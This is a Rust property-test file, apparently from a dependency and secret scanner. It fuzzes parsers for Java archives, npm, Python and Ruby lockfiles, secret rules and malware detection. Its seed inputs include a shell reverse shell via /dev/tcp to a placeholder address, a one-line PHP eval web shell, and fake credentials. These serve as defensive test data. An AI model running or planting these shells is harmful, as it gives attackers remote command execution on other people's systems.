//! The bodies of the fuzz targets on a few hundred generated inputs each: seconds, on a stable toolchain.
//!
//! The inputs are made from right ones by replacing, repeating and cutting. The seed is fixed: what fails once fails again.

#![expect(clippy::unwrap_used, reason = "a helper that fails is a failed test")]

#[path = "generated/bodies.rs"]
mod bodies;
#[path = "generated/changes.rs"]
mod changes;

use std::io::{Cursor, Write as _};

use changes::{changed, config, texts};
use proptest::prelude::*;
use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions};

fn zip_of(entries: &[(&str, &[u8])], method: CompressionMethod) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default().compression_method(method);
    for (name, content) in entries {
        zip.start_file(*name, options).unwrap();
        zip.write_all(content).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

/// Made by another library than the one that reads them.
fn archives() -> Vec<Vec<u8>> {
    let properties = b"groupId=org.apache.logging.log4j\nartifactId=log4j-core\nversion=2.14.1\n";
    let entries: &[(&str, &[u8])] = &[
        (
            "META-INF/MANIFEST.MF",
            b"Implementation-Title: x\nImplementation-Version: 1\n",
        ),
        ("META-INF/maven/a/b/pom.properties", properties),
        ("org/apache/logging/log4j/core/LoggerContext.class", b"x"),
        ("org/apache/logging/log4j/core/lookup/Interpolator.class", b"x"),
    ];
    let stored = zip_of(entries, CompressionMethod::Stored);
    let deflated = zip_of(entries, CompressionMethod::Deflated);
    let nested = zip_of(
        &[("lib/a.jar", &stored), ("lib/b.jar", &deflated)],
        CompressionMethod::Deflated,
    );
    let pom = b"<project><groupId>a</groupId><artifactId>b</artifactId><version>1</version></project>";
    let by_pom = zip_of(
        &[("META-INF/maven/a/b/pom.xml", pom), ("A.class", b"x")],
        CompressionMethod::Stored,
    );
    vec![stored, deflated, nested, by_pom, properties.to_vec()]
}

fn node_texts() -> Vec<Vec<u8>> {
    texts(&[
        r#"{"name":"a","version":"1.0.0","license":"MIT","packages":{"node_modules/b":{"version":"2.0.0"}}}"#,
        r#"{"dependencies":{"a":{"version":"1.0.0","dependencies":{"b":{"version":"npm:c@2.0.0"}}}}}"#,
        "# yarn lockfile v1\n\"@s/a@^1.0.0\", b@1:\n  version \"1.1.0\"\n\"c@npm:^1\":\n  version: 1.0.0\n  resolution: \"c@npm:1.0.0\"\n",
        "packages:\n  /a@1.0.0(b@2):\n    dev: true\n  /@s/b/2.0.0_c@1:\n    name: x\n    version: 1.0.0\n",
        "{\"packages\":{\"a\":[\"a@1.0.0\",\"\",{},], // x\n},}",
    ])
}

fn python_texts() -> Vec<Vec<u8>> {
    texts(&[
        "Name: A.b\nVersion: 1.0\nLicense: MIT\nClassifier: License :: OSI Approved :: MIT License\n\nx",
        r#"{"name":"a","version":"1","files":["lib/site-packages/a"],"default":{"b":{"version":"==1"}}}"#,
        "[[package]]\nname = \"a\"\nversion = \"1\"\nsource = { registry = \"x\" }\n[[packages]]\nname = 'b'\nversion = '2'\n",
        "a[x]==1.0 ; python_version > '3'\nb==2 # c\n",
    ])
}

fn other_texts() -> Vec<Vec<u8>> {
    texts(&[
        "# stub: rake 13.0.6 ruby lib\nGem::Specification.new do |s|\n  s.name = \"rake\".freeze\n  s.version = \"1\"\n  s.licenses = [\"MIT\"]\n",
        "GEM\n  specs:\n    nokogiri (1.13.0-x86_64-linux)\n      racc (~> 1.4)\n",
        r#"{"packages":[{"name":"a/b","version":"v1","license":["MIT"]}]}"#,
        r#"[{"name":"a/b","version":"v1","license":"MIT"}]"#,
        r#"{"libraries":{"A/1.0":{"type":"package"}},"dependencies":{"net6.0":{"A":{"type":"Direct","resolved":"1.0"}}}}"#,
    ])
}

/// Looks like a key of Amazon's, and is none.
fn secret_texts() -> Vec<Vec<u8>> {
    texts(&[
        "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLA\nAWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE1\n",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx\n-----END RSA PRIVATE KEY-----\n",
        "password: 'hunter2hunter2'\nurl = postgres://a:s3cretS3cret@db/x\n",
    ])
}

fn rule_texts() -> Vec<Vec<u8>> {
    texts(&[
        "[[rules]]\nid = \"a\"\nregex = 'a[a-z0-9]{10,20}'\nkeywords = [\"a\"]\nentropy = 3\n[rules.allowlist]\nregexes = ['b']\n",
        "[allowlist]\npaths = ['x']\n[[rules]]\nid = \"b\"\npath = '\\.p12$'\n",
    ])
}

fn code_texts() -> Vec<Vec<u8>> {
    texts(&[
        "#!/bin/sh\nexec 5<>/dev/tcp/192.0.2.1/4444\ncat <&5 | while read l; do $l 2>&5 >&5; done\n",
        "<?php @eval($_POST['x']); ?>",
    ])
}

proptest! {
    #![proptest_config(config(400))]

    #[test]
    fn secrets(data in changed(secret_texts())) {
        bodies::secrets(&data);
    }

    #[test]
    fn secret_rules(data in changed(rule_texts())) {
        bodies::secret_rules(&data);
    }

    #[test]
    fn malware(data in changed(code_texts())) {
        bodies::malware(&data);
    }

    #[test]
    fn java(data in changed(archives())) {
        bodies::java(&data);
    }

    #[test]
    fn node(data in changed(node_texts())) {
        bodies::node(&data);
    }

    #[test]
    fn python(data in changed(python_texts())) {
        bodies::python(&data);
    }

    #[test]
    fn others(data in changed(other_texts())) {
        bodies::others(&data);
    }
}

/// A property over inputs that are all refused would prove little.
#[test]
fn unchanged_inputs_are_accepted() {
    for (seeds, body) in [
        (archives(), bodies::java as fn(&[u8]) -> usize),
        (node_texts(), bodies::node),
        (python_texts(), bodies::python),
        (other_texts(), bodies::others),
    ] {
        for seed in seeds {
            assert!(body(&seed) > 0, "{}", String::from_utf8_lossy(&seed));
        }
    }
}
